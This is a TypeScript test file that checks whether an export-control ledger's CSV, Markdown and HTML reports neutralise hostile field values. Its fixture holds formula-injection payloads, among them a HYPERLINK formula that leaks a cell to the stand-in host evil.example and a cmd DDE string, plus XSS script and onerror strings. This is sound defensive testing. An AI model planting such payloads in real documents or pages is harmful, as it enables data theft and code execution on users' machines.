/**
 * Values taken from the ledger cannot act in an exported report: the CSV
 * defuses spreadsheet formulas (OWASP: a leading = + - @ TAB or CR gets a
 * single quote) and still reads back to the very value; the Markdown holds no
 * raw `<` and no live Markdown syntax from the ledger; the HTML escapes.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parseSections } from '../support/csv.js';
import { FakeClock } from '../support/fake-clock.js';
import { bearer, startTestApp, type TestApp } from '../support/http-app.js';

describe('investigations/report-injection', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({ clock: new FakeClock(Date.parse('2026-01-01T00:00:00Z')) });
  });
  afterAll(async () => t.close());

  interface Hostile {
    title: string;
    citation: string;
    note: string;
    sourceTitle: string;
    statement: string;
    exemptionTitle: string;
  }

  /** One measure on one subject whose free-text fields are the given strings. */
  async function record(n: number, v: Hostile): Promise<string> {
    const measureId = `hostile-${n}`;
    const subject = `hostile-subject-${n}`;
    const commands = [
      {
        type: 'ImposeRestriction',
        measureId,
        title: v.title,
        jurisdiction: 'US',
        authority: 'BIS',
        subjects: [subject],
        categories: ['exports'],
        effectiveFrom: '2019-05-16',
        citation: v.citation,
        note: v.note,
        sources: [{ url: 'https://example.org/rule', title: v.sourceTitle }],
      },
      {
        type: 'GrantExemption',
        measureId,
        exemptionId: 'licence',
        title: v.exemptionTitle,
        categories: ['exports/parts'],
        effectiveFrom: '2019-05-20',
        citation: v.citation,
      },
      {
        type: 'AnnounceEasing',
        measureId,
        announcementId: 'talk',
        statement: v.statement,
        announcedAt: '2019-06-01',
        note: v.note,
      },
    ];
    const { body } = await t.http
      .post('/v1/commands/batch')
      .set(bearer('writer'))
      .set('Idempotency-Key', `injection-${measureId}`)
      .send(commands)
      .expect(200);
    expect(body.results).toHaveLength(commands.length);
    return subject;
  }

  const download = async (subject: string, format: string) =>
    (
      await t.http
        .get(`/v1/subjects/${subject}/report?at=2019-07-01&format=${format}`)
        .set(bearer('reader'))
        .expect(200)
    ).text;

  /** What a value reads back as from the CSV: itself, behind a single quote when a spreadsheet would take it for a formula. */
  const neutralised = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

  function expectCsvHolds(csv: string, v: Hostile): void {
    const sections = parseSections(csv);
    for (const { header, records } of sections.values()) {
      for (const cell of [...header, ...records.flatMap((r) => Object.values(r))])
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(sections.get('restricted')!.records[0]).toMatchObject({
      title: neutralised(v.title),
      citation: neutralised(v.citation),
    });
    expect(sections.get('exemptions')!.records[0]).toMatchObject({ title: neutralised(v.exemptionTitle) });
    expect(sections.get('pending')!.records[0]).toMatchObject({ statement: neutralised(v.statement) });
    const imposed = sections.get('basis')!.records.find((r) => r.type === 'RestrictionImposed')!;
    expect(imposed).toMatchObject({ citation: neutralised(v.citation), note: neutralised(v.note) });
    expect(imposed.sources).toBe(neutralised(`${v.sourceTitle}, https://example.org/rule`));
  }

  describe('exported reports and hostile ledger values', () => {
    const known: Hostile = {
      title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      citation: '@SUM(A1:A9)',
      note: '<script>alert(1)</script>',
      sourceTitle: "+cmd|' /C calc'!A0",
      statement: '<img src=x onerror=alert(2)> | **bold** [x](javascript:alert(3)) `code`',
      exemptionTitle: '-2+3,\r\n# heading',
    };
    let subject: string;
    beforeAll(async () => {
      subject = await record(0, known);
    });

    it('CSV: formula cells are defused with a single quote and read back to the value', async () => {
      const csv = await download(subject, 'csv');
      expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
      expect(csv).not.toMatch(/(^|,)@SUM/m);
      expectCsvHolds(csv, known);
    });

    it('Markdown: no raw < from the ledger, and no link, emphasis or heading made from its values', async () => {
      const md = await download(subject, 'md');
      expect(md).not.toContain('<');
      expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(md).toContain('\\*\\*bold\\*\\* \\[x\\](javascript:alert(3)) \\`code\\`');
      expect(md).not.toMatch(/^#+ heading/m);
    });

    it('HTML: every value escaped', async () => {
      const html = await download(subject, 'html');
      expect(html).not.toMatch(/<script|<img/i);
      expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)');
    });

    it('for generated hostile strings, the CSV reads back to the exact values and the Markdown holds no raw <', async () => {
      const piece = fc.constantFrom(
        '"',
        ',',
        '\n',
        '\r\n',
        '<script>',
        '</script>',
        '|',
        '`',
        '*',
        '_',
        '[',
        ']',
        '#',
        '<',
        '>',
        '&',
        "'",
        ' ',
        'a',
        'é',
        '1.',
        '- ',
        '=1+1',
        '@x',
        ';',
      );
      const text = fc
        .tuple(
          fc.constantFrom('=', '+', '-', '@', '\t', '\r', '#', "'", '"', ' ', ''),
          fc.array(piece, { maxLength: 8 }),
          fc.string({ maxLength: 4 }),
        )
        .map(([head, parts, tail]) => `${head}${parts.join('')}${tail}x`);
      let n = 1;
      await fc.assert(
        fc.asyncProperty(
          fc.record({
            title: text,
            citation: text,
            note: text,
            sourceTitle: text,
            statement: text,
            exemptionTitle: text,
          }),
          async (v) => {
            const subject = await record(n++, v);
            expectCsvHolds(await download(subject, 'csv'), v);
            expect(await download(subject, 'md')).not.toContain('<');
            expect(await download(subject, 'html')).not.toMatch(/<script/i);
          },
        ),
        { numRuns: 30 },
      );
    });
  });
});
